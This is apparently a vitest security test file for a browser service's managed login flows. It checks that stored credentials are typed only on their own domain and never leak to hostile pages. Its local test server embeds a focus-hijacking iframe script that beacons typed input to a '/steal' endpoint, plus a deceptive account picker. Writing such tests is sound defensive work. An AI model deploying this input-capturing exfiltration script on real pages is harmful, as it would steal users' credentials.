import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type LoginSites, startLoginSites } from "@browser-service/test-pages/login-sites";
import type { ManagedAuth } from "@browser-service/types";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { isWithin, mayTypeCredentials } from "../src/managed-auth/credential-hosts.js";
import { READING_BOUNDS } from "../src/managed-auth/login-page-reading.js";
import { useTestServer } from "./support/test-server.js";

// A stored credential's values, from the attacker's side: a key holder of the project
// who points a connection at their own page, or reaches into the login browser; a login
// page that hands the focus to another origin's frame.

let sites: LoginSites;
let hostile: Server;
let port = 0;
/** What the hostile pages' frames and forms received. */
const received: string[] = [];
const SECRET = "S3cr3t-never-leaves";

beforeAll(async () => {
  sites = await startLoginSites();
  hostile = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://x");
    if (url.pathname === "/steal") {
      received.push(url.searchParams.get("v") ?? "");
      response.end();
      return;
    }
    if (url.pathname === "/to-picker") {
      // The connection's own domain sends the flow on to a picker elsewhere.
      response.writeHead(302, { location: `http://127.0.0.1:${port}/picker` }).end();
      return;
    }
    if (url.pathname === "/harm") {
      received.push(`harm ${request.headers.host}`);
      response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><h1>Done</h1>");
      return;
    }
    response.writeHead(200, { "content-type": "text/html" });
    if (url.pathname === "/picker") {
      // Each button posts to /harm: what a click on it does is the page's.
      const button = (label: string) => `<form method="post" action="/harm"><button>${label}</button></form>`;
      response.end(
        `<!doctype html><title>Accounts</title><h1>Choose an account</h1>${["Acme", "Sign out", "Delete my account", "Add another account"].map(button).join("")}`,
      );
      return;
    }
    if (url.pathname === "/textarea" || url.pathname === "/changing") {
      // A user name in a text area; on /changing, the form is made anew once the robot fills the first input.
      const form = `<form method="post" action="/welcome"><label for="u">Email</label><textarea id="u" name="u" autocomplete="username"></textarea><label for="p">Password</label><input id="p" type="password" name="p"><button>Sign in</button></form>`;
      const remake =
        url.pathname === "/changing"
          ? `<script>let made = false; document.addEventListener("input", () => { if (made) return; made = true; document.body.innerHTML = ${JSON.stringify(form.replaceAll('id="', 'id="n').replaceAll('for="', 'for="n'))}; });</script>`
          : "";
      response.end(`<!doctype html><title>Sign in</title><h1>Sign in</h1>${form}${remake}`);
      return;
    }
    if (url.pathname === "/welcome") {
      let body = "";
      request.setEncoding("utf8").on("data", (chunk: string) => (body += chunk));
      request.on("end", () => {
        received.push(`welcome ${body}`);
        response.end("<!doctype html><title>Home</title><h1>Welcome back</h1>");
      });
      return;
    }
    if (url.pathname === "/many") {
      // A page of 3,000 buttons and 3,000 inputs: what a flow records of it stays small.
      response.end(`<!doctype html><title>Pick one</title>${"<button>Account</button>".repeat(3000)}${'<input type="text" name="code">'.repeat(3000)}`);
      return;
    }
    if (url.pathname === "/frame") {
      // Another origin's frame: whatever is typed while it holds the focus is reported.
      response.end(
        `<!doctype html><input id="x"><script>const x = document.getElementById("x");
         addEventListener("focus", () => x.focus());
         x.addEventListener("input", () => navigator.sendBeacon("/steal?v=" + encodeURIComponent(x.value)));</script>`,
      );
      return;
    }
    // The allowed origin's login page hands the focus to the other origin's frame whenever
    // its own password input gets it.
    response.end(
      `<!doctype html><title>Sign in</title><form method="post" action="/done"><label for="p">Password</label><input id="p" type="password" name="p"><button>Sign in</button></form>
       <iframe id="f" src="http://127.0.0.1:${port}/frame"></iframe>
       <script>document.getElementById("p").addEventListener("focus", () => queueMicrotask(() => document.getElementById("f").focus()));</script>`,
    );
  });
  hostile.listen(0, "127.0.0.1");
  await once(hostile, "listening");
  port = (hostile.address() as AddressInfo).port;
});
afterAll(async () => {
  hostile?.close();
  await sites?.close();
});
const t = useTestServer({ authFlowSeconds: 60 });

const TERMINAL = new Set(["SUCCESS", "FAILED", "EXPIRED", "CANCELED"]);

async function ended(id: string): Promise<ManagedAuth> {
  for (;;) {
    const record = await t.client().authConnections.get(id);
    if (TERMINAL.has(String(record.flow_status))) return record;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe("a stored credential's values", () => {
  it("are typed only on the credential's own domain, even where the connection allows typing", async () => {
    const client = t.client();
    // The credential is for 127.0.0.1; the key holder's connection allows localhost, where their page waits.
    await client.credentials.create({ name: "bank", domain: "127.0.0.1", values: { username: "ceo@bank", password: SECRET } });
    const connection = await client.authConnections.create({
      domain: "localhost",
      profile_name: "not-the-bank",
      login_url: sites.url("localhost", "/password/login"),
      credential: { name: "bank" },
    });
    await client.authConnections.login(connection.id);
    expect(await ended(connection.id)).toMatchObject({ flow_status: "FAILED", error_code: "domain_not_allowed" });
    expect(JSON.stringify(sites.submissions("password"))).not.toContain(SECRET);
  });

  it("never reach another origin's frame that takes the focus", async () => {
    const client = t.client();
    await client.credentials.create({ name: "framed", domain: "localhost", values: { password: SECRET } });
    const connection = await client.authConnections.create({
      domain: "localhost",
      profile_name: "framed",
      login_url: `http://localhost:${port}/login`,
      credential: { name: "framed" },
    });
    await client.authConnections.login(connection.id);
    await ended(connection.id);
    // Give a frame's report time to arrive, had it got anything.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(received.filter((value) => value.includes("S3cr3t"))).toEqual([]);
  });

  it("are in a browser no key of the project can list, read or attach DevTools to", async () => {
    const client = t.client();
    const connection = await client.authConnections.create({
      domain: "localhost",
      profile_name: "hidden",
      login_url: sites.url("localhost", "/two-step/login"),
    });
    await client.authConnections.login(connection.id);
    let record = await client.authConnections.get(connection.id);
    while (record.flow_step !== "AWAITING_INPUT") record = await client.authConnections.get(connection.id);
    const browserId = String(record.browser_session_id);
    expect((await client.browsers.list()).map((browser) => browser.id)).not.toContain(browserId);
    await expect(client.browsers.get(browserId)).rejects.toMatchObject({ status: 404 });
    await expect(client.webmcp.listTools(browserId)).rejects.toMatchObject({ status: 404 });
    const devtools = new WebSocket(`${t.url.replace("http", "ws")}/browsers/${browserId}/cdp`, { headers: { authorization: `Bearer ${t.orgKey}` } });
    const answer = await new Promise<number>((resolve) => {
      devtools.on("unexpected-response", (_request, response) => resolve(response.statusCode ?? 0));
      devtools.on("open", () => resolve(101));
      devtools.on("error", () => resolve(-1));
    });
    devtools.terminate();
    // As missing as a deleted browser, to the organization's own key.
    expect(answer).toBe(404);
    await client.authConnections.delete(connection.id);
  });
});

/** The access the live view at `url` grants (its hello message), and its answer to a WebMCP `tools` request. */
async function liveView(url: string): Promise<{ access: string; tools: Record<string, unknown> }> {
  const parsed = new URL(url);
  const token = new URLSearchParams(parsed.hash.slice(1)).get("token");
  const ws = new WebSocket(`ws://${parsed.host}${parsed.pathname}`, ["browser-service.live-view", `token.${token}`]);
  const messages: Record<string, unknown>[] = [];
  const arrived = (type: string) =>
    new Promise<Record<string, unknown>>((resolve) => {
      const look = () => {
        const found = messages.find((message) => message.type === type);
        if (found) resolve(found);
        else setTimeout(look, 20);
      };
      look();
    });
  ws.on("message", (data: Buffer) => messages.push(JSON.parse(data.toString()) as Record<string, unknown>));
  try {
    const hello = await arrived("hello");
    ws.send(JSON.stringify({ type: "tools" }));
    return { access: String(hello.access), tools: await arrived("tools") };
  } finally {
    ws.terminate();
  }
}

describe("a login flow's live view", () => {
  it("only watches while a stored credential may be on the page, so no click can reveal it", async () => {
    const client = t.client();
    await client.credentials.create({ name: "watched", domain: "localhost", values: { username: "u", password: SECRET } });
    const stored = await client.authConnections.create({
      domain: "localhost",
      profile_name: "watched",
      login_url: sites.url("localhost", "/slow/login"),
      credential: { name: "watched" },
    });
    const started = await client.authConnections.login(stored.id);
    const watched = await liveView(String(started.live_view_url));
    expect(watched.access).toBe("watch");
    // Nor does its live view reach the page's WebMCP tools: the browser is the service's own.
    expect(watched.tools).toMatchObject({ error: { code: "not_found" } });
    expect((await client.authConnections.get(stored.id)).live_view_url).toBe(started.live_view_url);
    await client.authConnections.delete(stored.id);
    // Without a stored credential a person may act in the browser (a CAPTCHA, an approval).
    const asked = await client.authConnections.create({ domain: "localhost", profile_name: "asked", login_url: sites.url("localhost", "/slow/login") });
    const open = await client.authConnections.login(asked.id);
    expect((await liveView(String(open.live_view_url))).access).toBe("control");
    await client.authConnections.delete(asked.id);
  });
});

describe("a hostile login page", () => {
  it("gets at most READING_BOUNDS of its inputs and buttons into the flow's record", async () => {
    const client = t.client();
    const connection = await client.authConnections.create({ domain: "localhost", profile_name: "many", login_url: `http://localhost:${port}/many` });
    await client.authConnections.login(connection.id);
    let record = await client.authConnections.get(connection.id);
    while (record.flow_step !== "AWAITING_INPUT" && !TERMINAL.has(String(record.flow_status))) record = await client.authConnections.get(connection.id);
    expect(record.flow_step).toBe("AWAITING_INPUT");
    expect((record.fields ?? []).length + (record.choices ?? []).length).toBeGreaterThan(0);
    expect((record.fields ?? []).length).toBeLessThanOrEqual(READING_BOUNDS.inputs);
    expect((record.choices ?? []).length).toBeLessThanOrEqual(READING_BOUNDS.choices);
    expect(JSON.stringify(record).length).toBeLessThan(64 * 1024);
    await client.authConnections.delete(connection.id);
  });
});

describe("where values may be typed", () => {
  it("matches an IP address only as itself, and no multi-tenant sign-in host unless listed", () => {
    expect(isWithin("10.0.0.1", "0.1")).toBe(false);
    expect(isWithin("127.0.0.1", "127.0.0.1")).toBe(true);
    expect(mayTypeCredentials("http://10.0.0.1/login", "example.com", ["0.1"])).toBe(false);
    expect(mayTypeCredentials("https://attacker.okta.com/login", "example.com", [])).toBe(false);
    expect(mayTypeCredentials("https://acme.okta.com/login", "example.com", ["acme.okta.com"])).toBe(true);
    expect(mayTypeCredentials("https://accounts.google.com/signin", "example.com", [])).toBe(true);
  });
});

describe("pickers and forms of other shapes", () => {
  it("never offers or picks a sign-in choice on a page off the connection's domains", async () => {
    const client = t.client();
    const connection = await client.authConnections.create({
      domain: "localhost",
      profile_name: "picked-elsewhere",
      login_url: `http://localhost:${port}/to-picker`,
    });
    await client.authConnections.login(connection.id);
    expect(await ended(connection.id)).toMatchObject({ flow_status: "FAILED", error_code: "domain_not_allowed", choices: null });
    expect(received.filter((entry) => entry.startsWith("harm"))).toEqual([]);
  });

  it("offers a picker's accounts, not its buttons that sign out, delete or add one", async () => {
    const client = t.client();
    const connection = await client.authConnections.create({
      domain: "127.0.0.1",
      profile_name: "picker-buttons",
      login_url: `http://127.0.0.1:${port}/picker`,
    });
    await client.authConnections.login(connection.id);
    let record = await client.authConnections.get(connection.id);
    while (record.flow_step !== "AWAITING_INPUT" && !TERMINAL.has(String(record.flow_status))) record = await client.authConnections.get(connection.id);
    expect(record.choices?.map((choice) => [choice.type, choice.label])).toEqual([["account", "Acme"]]);
    await client.authConnections.delete(connection.id);
  });

  it("fills a user name kept in a text area, and reads a form again that was made anew under it", async () => {
    const client = t.client();
    for (const path of ["/textarea", "/changing"]) {
      await client.credentials.create({
        name: `shaped${path.replace("/", "-")}`,
        domain: "127.0.0.1",
        values: { username: "ada@example.com", password: "pw-1" },
      });
      const connection = await client.authConnections.create({
        domain: "127.0.0.1",
        profile_name: `shaped${path.replace("/", "-")}`,
        login_url: `http://127.0.0.1:${port}${path}`,
        credential: { name: `shaped${path.replace("/", "-")}` },
      });
      received.length = 0;
      await client.authConnections.login(connection.id);
      expect(await ended(connection.id), path).toMatchObject({ flow_status: "SUCCESS" });
      expect(received, path).toEqual([`welcome u=ada%40example.com&p=pw-1`]);
    }
  });
});
